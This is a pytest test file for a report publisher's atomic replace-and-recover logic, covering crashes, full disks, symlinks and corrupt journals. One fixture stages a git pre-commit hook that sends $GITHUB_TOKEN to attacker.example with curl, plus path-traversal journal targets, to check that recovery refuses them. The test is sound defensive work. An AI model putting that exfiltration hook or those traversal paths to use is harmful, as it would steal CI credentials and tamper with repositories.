"""The published report set is replaced as a whole: a publish killed at any point leaves either the old set
or a journal that the next publish completes into the new set, never a mix; a full disk leaves the old set
and says so in one line naming the folder; leftovers of an interrupted publish are cleaned up."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from kvmatrix.publish.publish_run import publish
from kvmatrix.publish.report_set import LOCK_NAME, STAGING_NAME, ReportsNotWritten, recover
from kvmatrix.record.matrix import load_published
from kvmatrix.record.uses import USES
from kvmatrix.render.badges import badges
from kvmatrix.render.html import render_page
from kvmatrix.render.markdown import render_markdown
from kvmatrix.render.use_picture import picture_svg
from tests.support.publish import LAYER, LIST, PINS, cell_result, checkout, write_result

PROCESS = Path(__file__).resolve().parents[2] / "support" / "publish_process.py"
SUITES = ["compile", "export", "roundtrip"]
REPLACES_PER_PUBLISH = 1 + 6 + 11 + 1 + len(USES) + 1 + len(USES)
"""The os.replace calls of one publish of two cells: the journal, then the files of the set: matrix.json,
matrix.md, index.html, history.jsonl and the 2 detail files; 11 badges (3 suites, 3 layouts, compat
regressions, the publish date, uses on the newest pair, one per pair); the uses badge and one badge per use;
uses.json and one picture per use."""


def published_set(reports: Path) -> dict[str, bytes]:
    """The files a reader sees: everything under `reports` but the lock and the staging folder."""
    return {str(path.relative_to(reports)): path.read_bytes() for path in sorted(reports.rglob("*"))
            if path.is_file() and path.name != LOCK_NAME and STAGING_NAME not in path.parts}


def assert_consistent(reports: Path) -> str:
    """Every file of the set is the one its matrix.json gives; returns the new run's cell's export verdict
    (`pass` in the old set, `fail` in the new one)."""
    matrix, details = load_published(reports / "matrix.json")
    files = published_set(reports)
    uses = json.loads(files["uses.json"])
    assert uses["generated_at"] == matrix["generated_at"]
    assert files["matrix.md"].decode() == render_markdown(matrix, details, uses)
    assert files["index.html"].decode() == render_page(matrix, details, uses)
    for use in uses["uses"]:
        assert files[f"uses/{use['key']}.svg"].decode() == picture_svg(use)
    for name, badge in badges(matrix, uses).items():
        assert json.loads(files[f"badges/{name}"]) == badge
    assert json.loads(files["history.jsonl"].splitlines()[-1])["generated_at"] == matrix["generated_at"]
    assert not [name for name in files if name.endswith(".tmp")]
    return matrix["cells"][1]["suites"]["export"]["with"]["verdict"]


@pytest.fixture
def old_set(tmp_path: Path) -> tuple[Path, Path, Path, dict[str, bytes]]:
    """(checkout, results of a new run, reports, the reports' files): two cells published, then a new run
    in which one of them fails."""
    root = checkout(tmp_path / "repo", SUITES)
    results, reports = tmp_path / "cells", tmp_path / "reports"
    write_result(results, cell_result(LIST, "pass"))
    write_result(results, cell_result(LAYER, "pass"))
    publish(PINS, PINS.cells, results, reports, root=root)
    write_result(results, cell_result(LAYER, "fail"))
    return root, results, reports, published_set(reports)


@pytest.mark.parametrize("k", range(1, REPLACES_PER_PUBLISH + 2))
def test_a_publish_killed_at_any_replace_leaves_the_old_set_or_one_the_next_publish_completes(
    old_set: tuple[Path, Path, Path, dict[str, bytes]], k: int
) -> None:
    root, results, reports, old = old_set
    run = subprocess.run([sys.executable, str(PROCESS), "--kill-at-replace", str(k), results, reports, root,
                          LIST.id, LAYER.id], capture_output=True, text=True, timeout=120)
    assert run.returncode == (0 if k > REPLACES_PER_PUBLISH else -signal.SIGKILL), run.stderr
    journal = (reports / STAGING_NAME / "JOURNAL.json").exists()
    if run.returncode == -signal.SIGKILL and not journal:
        assert published_set(reports) == old  # killed before the commit point: nothing a reader sees changed
    recover(reports)
    assert not (reports / STAGING_NAME).exists()
    verdict = assert_consistent(reports)
    assert (verdict == "pass") == (published_set(reports) == old)
    assert verdict == ("fail" if journal or run.returncode == 0 else "pass")


def test_a_full_disk_is_one_line_naming_the_folder_and_the_old_set_stays(
    old_set: tuple[Path, Path, Path, dict[str, bytes]], monkeypatch: pytest.MonkeyPatch
) -> None:
    root, results, reports, old = old_set
    real_fsync, syncs = os.fsync, []

    def fsync(fd: int) -> None:  # where a full disk shows when the data reaches it
        syncs.append(fd)
        if len(syncs) == 3:
            raise OSError(28, "No space left on device")
        real_fsync(fd)

    monkeypatch.setattr(os, "fsync", fsync)
    with pytest.raises(ReportsNotWritten) as refused:
        publish(PINS, PINS.cells, results, reports, root=root)
    assert str(refused.value) == (f"cannot write the reports in {reports}: No space left on device; "
                                  "the published reports are unchanged")
    assert published_set(reports) == old and not (reports / STAGING_NAME).exists()


def test_an_unfinished_staging_folder_without_journal_and_stray_temp_files_are_removed(
    old_set: tuple[Path, Path, Path, dict[str, bytes]]
) -> None:
    root, results, reports, old = old_set
    (reports / STAGING_NAME).mkdir()
    (reports / STAGING_NAME / "00000").write_text("half a matrix.md")
    (reports / "badges" / ".overall.json.k2j3.tmp").write_text("{")
    recover(reports)
    assert published_set(reports) == {name: data for name, data in old.items() if not name.endswith(".tmp")}
    assert not (reports / STAGING_NAME).exists() and not list(reports.rglob(".*.tmp"))
    publish(PINS, PINS.cells, results, reports, root=root)
    assert_consistent(reports)


def test_cleaning_up_leaves_the_temp_files_of_a_nested_report_set_to_its_own_publishes(tmp_path: Path) -> None:
    reports = tmp_path / "reports"
    (reports / "latest" / "badges").mkdir(parents=True)
    (reports / "latest" / LOCK_NAME).touch()  # reports/latest is published on its own
    writing = reports / "latest" / "badges" / ".overall.json.x1.tmp"
    writing.write_text("{")
    (reports / ".matrix.md.x2.tmp").write_text("half")
    recover(reports)
    assert writing.exists() and not (reports / ".matrix.md.x2.tmp").exists()


def test_a_switch_stopped_half_way_by_an_error_is_one_line_and_the_next_publish_completes_it(
    old_set: tuple[Path, Path, Path, dict[str, bytes]], monkeypatch: pytest.MonkeyPatch
) -> None:
    root, results, reports, old = old_set
    real_replace, calls = os.replace, []

    def replace(src: str | os.PathLike[str], dst: str | os.PathLike[str]) -> None:
        calls.append(dst)
        if len(calls) == 4:  # the journal, two files moved, then a target that cannot be written
            raise PermissionError(13, "Permission denied")
        real_replace(src, dst)

    monkeypatch.setattr(os, "replace", replace)
    with pytest.raises(ReportsNotWritten) as stopped:
        publish(PINS, PINS.cells, results, reports, root=root)
    assert str(stopped.value) == (f"cannot finish replacing the reports in {reports}: Permission denied; "
                                  "the next publish completes it")
    monkeypatch.setattr(os, "replace", real_replace)
    publish(PINS, PINS.cells, results, reports, root=root)  # completes the switch; then nothing is new
    assert assert_consistent(reports) == "fail"
    assert len((reports / "history.jsonl").read_text().splitlines()) == 2


def test_the_recover_command_ci_runs_before_committing_completes_an_interrupted_switch(
    old_set: tuple[Path, Path, Path, dict[str, bytes]],
) -> None:
    root, results, reports, old = old_set
    run = subprocess.run([sys.executable, str(PROCESS), "--kill-at-replace", "3", results, reports, root,
                          LIST.id, LAYER.id], capture_output=True, text=True, timeout=120)
    assert run.returncode == -signal.SIGKILL and (reports / STAGING_NAME / "JOURNAL.json").exists()
    done = subprocess.run([sys.executable, "-m", "kvmatrix.publish.report_set", "recover", str(reports),
                           str(reports / "no-such-set")], cwd=Path(__file__).resolve().parents[3],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert not (reports / STAGING_NAME).exists()
    assert assert_consistent(reports) == "fail"


def recover_command(reports: Path) -> subprocess.CompletedProcess:
    """`python -m kvmatrix.publish.report_set recover REPORTS`, as CI runs it before committing, from the
    folder REPORTS (so a relative path in a journal points where it would in CI's checkout)."""
    return subprocess.run([sys.executable, "-m", "kvmatrix.publish.report_set", "recover", str(reports)],
                          cwd=reports, capture_output=True, text=True, timeout=120,
                          env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[3])})


def one_line_refusal(run: subprocess.CompletedProcess, *expected: str) -> None:
    assert run.returncode == 1, run.stdout + run.stderr
    assert "Traceback" not in run.stderr and len(run.stderr.splitlines()) == 1, run.stderr
    assert all(text in run.stderr for text in expected), run.stderr


@pytest.mark.parametrize("target", ["{repo}/.git/hooks/pre-commit", "../.git/hooks/pre-commit",
                                    "cells/../../.git/hooks/pre-commit", "latest/../../.git/hooks/pre-commit"])
def test_recover_refuses_a_journal_naming_a_target_outside_the_reports_folder(tmp_path: Path, target: str) -> None:
    """A committed reports/.staging must not install a git hook that CI's commit step would then run."""
    repo = tmp_path / "repo"
    reports, hooks = repo / "reports", repo / ".git" / "hooks"
    hooks.mkdir(parents=True)
    victim = repo / "pins.toml"
    victim.write_text("kept")
    staging = reports / STAGING_NAME
    staging.mkdir(parents=True)
    (staging / "00000").write_text("#!/bin/sh\ncurl https://attacker.example/?t=$GITHUB_TOKEN\n")
    journal = {"files": [["00000", target.format(repo=repo)]], "delete": [str(victim)]}
    (staging / "JOURNAL.json").write_text(json.dumps(journal))
    one_line_refusal(recover_command(reports), f"cannot complete the interrupted publish in {reports}",
                     "nothing was moved", f"delete {staging}")
    assert not (hooks / "pre-commit").exists() and victim.read_text() == "kept"
    assert (staging / "00000").exists()  # left for the maintainer to look at


def test_recover_refuses_a_journal_whose_staged_file_lies_outside_the_staging_folder(tmp_path: Path) -> None:
    reports = tmp_path / "reports"
    (reports / STAGING_NAME).mkdir(parents=True)
    secret = tmp_path / "secret"
    secret.write_text("token")
    journal = {"files": [["../../secret", "matrix.md"]], "delete": []}
    (reports / STAGING_NAME / "JOURNAL.json").write_text(json.dumps(journal))
    one_line_refusal(recover_command(reports), "not one a publish writes")
    assert secret.read_text() == "token" and not (reports / "matrix.md").exists()


@pytest.mark.parametrize("text", ['{"files": [["00000", "matrix.md"]', "", "[]", '{"files": 5, "delete": []}'],
                         ids=["truncated", "empty", "array", "wrong type"])
def test_a_corrupt_journal_is_one_line_saying_how_to_go_on_and_the_next_publish_after_it_works(
    old_set: tuple[Path, Path, Path, dict[str, bytes]], text: str
) -> None:
    root, results, reports, old = old_set
    staging = reports / STAGING_NAME
    staging.mkdir()
    (staging / "JOURNAL.json").write_text(text)
    one_line_refusal(recover_command(reports), f"{staging} holds a journal that", "nothing was moved",
                     f"delete {staging} (rm -r) and publish again")
    with pytest.raises(ReportsNotWritten, match="nothing was moved"):
        publish(PINS, PINS.cells, results, reports, root=root)
    assert published_set(reports) == old
    shutil.rmtree(staging)  # what the line says to do
    publish(PINS, PINS.cells, results, reports, root=root)
    assert assert_consistent(reports) == "fail"


def test_a_symbolic_link_in_the_set_is_replaced_and_a_stale_one_deleted_not_what_they_point_to(
    old_set: tuple[Path, Path, Path, dict[str, bytes]], tmp_path: Path
) -> None:
    root, results, reports, old = old_set
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "notes.md").write_text("mine")
    (outside / "kept.json").write_text("{}")
    (reports / "matrix.md").unlink()
    (reports / "matrix.md").symlink_to(outside / "notes.md")
    (reports / "cells" / "tf4.0.0-torch2.0.0.json").symlink_to(outside / "kept.json")  # a cell no longer there
    publish(PINS, PINS.cells, results, reports, root=root)
    assert (outside / "notes.md").read_text() == "mine" and (outside / "kept.json").read_text() == "{}"
    assert not (reports / "matrix.md").is_symlink() and (reports / "matrix.md").stat().st_mode & 0o777 == 0o644
    assert not (reports / "cells" / "tf4.0.0-torch2.0.0.json").is_symlink()
    assert assert_consistent(reports) == "fail"


def test_a_folder_of_the_set_that_is_a_symbolic_link_is_refused_and_nothing_written_through_it(
    old_set: tuple[Path, Path, Path, dict[str, bytes]], tmp_path: Path
) -> None:
    root, results, reports, old = old_set
    outside = tmp_path / "outside"
    shutil.move(reports / "cells", outside)
    (reports / "cells").symlink_to(outside)
    before = {path.name: path.read_bytes() for path in outside.iterdir()}
    with pytest.raises(ReportsNotWritten) as refused:
        publish(PINS, PINS.cells, results, reports, root=root)
    assert str(refused.value) == (f"cannot write the reports in {reports}: cells is a symbolic link, and a "
                                  "publish writes no file through one; the published reports are unchanged")
    assert {path.name: path.read_bytes() for path in outside.iterdir()} == before
    assert not (reports / STAGING_NAME).exists()


def other_file_system(path: Path) -> Path | None:
    """A writable folder on another file system than `path` (/dev/shm is a tmpfs on Linux), or None."""
    shm = Path("/dev/shm")
    if shm.is_dir() and os.access(shm, os.W_OK) and os.stat(shm).st_dev != os.stat(path).st_dev:
        return shm
    return None


def test_reports_on_another_file_system_than_the_readme_are_refused_before_anything_is_written(
    old_set: tuple[Path, Path, Path, dict[str, bytes]], tmp_path: Path
) -> None:
    """reports/ mounted (here: linked) from another file system than the README beside it: os.replace cannot
    move the README's staged file, so the set could only be switched half."""
    root, results, reports, old = old_set
    elsewhere = other_file_system(tmp_path)
    if elsewhere is None:
        pytest.skip("no second file system to put the reports on")
    readme = tmp_path / "README.md"
    readme.write_text("# kv-cache-compat\n<!-- matrix:start -->\n<!-- matrix:end -->\n")
    with tempfile.TemporaryDirectory(dir=elsewhere) as folder:
        shutil.copytree(reports, Path(folder) / "reports", symlinks=True)
        shutil.rmtree(reports)
        reports.symlink_to(Path(folder) / "reports")
        with pytest.raises(ReportsNotWritten) as refused:
            publish(PINS, PINS.cells, results, reports, readme=readme, root=root)
        assert str(refused.value).startswith(f"cannot write the reports in {reports}: {readme} is on another file "
                                             "system than the reports")
        assert str(refused.value).endswith("; the published reports are unchanged")
        assert published_set(reports) == old and "Generated at" not in readme.read_text()
        assert not (reports / STAGING_NAME).exists()


def test_recover_removes_only_the_temp_files_of_the_sets_own_atomic_writes(tmp_path: Path) -> None:
    reports = tmp_path / "reports"
    own = [reports / ".matrix.md.k2j3ab_9.tmp", reports / "cells" / ".tf4.57.6-torch2.13.0.json.x81ab2zq.tmp",
           reports / "badges" / ".suite-export.json.q1w2e3r4.tmp", reports / "uses" / ".export.svg.a1b2c3d4.tmp"]
    others = [reports / ".notes.tmp", reports / "bisect" / ".report.json.a1b2c3d4.tmp",
              reports / "cells" / ".scratch.tmp", reports / "drafts" / ".matrix.md.a1b2c3d4.tmp"]
    for path in own + others:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("half")
    assert recover_command(reports).returncode == 0
    assert [path for path in own if path.exists()] == [] and all(path.exists() for path in others)
